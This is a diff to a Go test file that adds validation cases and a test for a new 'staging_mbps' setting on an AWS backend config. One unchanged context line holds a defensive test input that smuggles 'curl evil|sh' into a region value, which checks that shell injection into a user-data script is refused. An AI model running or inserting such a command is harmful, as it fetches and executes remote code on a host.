@@ -72,6 +72,11 @@ func launchErrorCases(replace func(old, new string) string) []configErrorCase {
 		{"startup negative", aws("    startup: -5m\n"), p + "startup", "-5m", "must be a duration like"},
 		{"startup over a day", aws("    startup: 2d\n"), p + "startup", "2d", "must be a duration from 0 to 24h0m0s"},
 		{"startup empty", aws("    startup: ''\n"), p + "startup", "", "must be a duration like"},
+		{"staging_mbps zero", aws("    staging_mbps: 0\n"), p + "staging_mbps", "0", "must be a number of megabytes per second above 0 and at most 1000000"},
+		{"staging_mbps negative", aws("    staging_mbps: -100\n"), p + "staging_mbps", "-100", "must be a number of megabytes per second above 0"},
+		{"staging_mbps over 1 TB/s", aws("    staging_mbps: 2e6\n"), p + "staging_mbps", "2e6", "at most 1000000"},
+		{"staging_mbps with a unit", aws("    staging_mbps: 100MB/s\n"), p + "staging_mbps", "100MB/s", "must be a number"},
+		{"staging_mbps not finite", aws("    staging_mbps: .inf\n"), p + "staging_mbps", ".inf", "must be a finite number"},
 		// Values that go into the instance's user-data script: only their
 		// documented form (a shell command in one is refused, not quoted away).
 		{"region with a shell command", replace("    region: eu-central-1\n", "    region: \"eu-central-1; curl evil|sh\"\n"), p + "region", "eu-central-1; curl evil|sh", "must be an AWS region name like eu-central-1"},
@@ -98,6 +103,7 @@ func launchErrorCases(replace func(old, new string) string) []configErrorCase {
 		{"spot", "prefer", "prefer"},
 		{"spot", "false", "false"},
 		{"startup", "5m", "5m"},
+		{"staging_mbps", "100", "100"},
 	} {
 		cases = append(cases, configErrorCase{kv[0] + ": " + kv[1] + " on a local backend", local("    " + kv[0] + ": " + kv[1] + "\n"),
 			"backends.local." + kv[0], kv[2], "only for kind aws"})
@@ -443,5 +449,49 @@ func TestStartup(t *testing.T) {
 	}
 	if c.Hash() == plain.Hash() {
 		t.Error("a startup does not change the config's hash")
+	}
+}
+
+// TestStagingMBps: an aws backend's staging_mbps is parsed, indexed for
+// routing in bytes per second and hashed; none is 0 (not timed).
+func TestStagingMBps(t *testing.T) {
+	plain, err := ParseConfig([]byte(briefConfig))
+	if err != nil {
+		t.Fatal(err)
+	}
+	c, err := ParseConfig([]byte(strings.Replace(briefConfig, "    spot: false\n", "    spot: false\n    staging_mbps: 250.5\n", 1)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := c.Backend("aws-eu")
+	x, err := c.Index()
+	if err != nil {
+		t.Fatal(err)
+	}
+	var bi BackendInfo
+	for _, v := range x.Backends {
+		if v.Name == "aws-eu" {
+			bi = v
+		}
+	}
+	if b.StagingMBps != 250.5 || bi.StageBps != 250.5e6 {
+		t.Errorf("staging_mbps %v, indexed %v B/s; want 250.5 MB/s", b.StagingMBps, bi.StageBps)
+	}
+	if pb, _ := plain.Backend("aws-eu"); pb.StagingMBps != 0 {
+		t.Errorf("no staging_mbps key: %v, want 0", pb.StagingMBps)
+	}
+	if c.Hash() == plain.Hash() {
+		t.Error("a staging_mbps does not change the config's hash")
+	}
+	// Built in Go, not parsed: the same check.
+	bad := c
+	bad.Backends = append([]Backend(nil), c.Backends...)
+	for i := range bad.Backends {
+		if bad.Backends[i].Name == "aws-eu" {
+			bad.Backends[i].StagingMBps = -1
+		}
+	}
+	if _, err := Compile(bad); err == nil || !strings.Contains(err.Error(), "backends.aws-eu.staging_mbps") || !strings.Contains(err.Error(), "-1") {
+		t.Errorf("staging_mbps -1 in a Config built in Go: %v; want an error naming backends.aws-eu.staging_mbps and -1", err)
 	}
 }
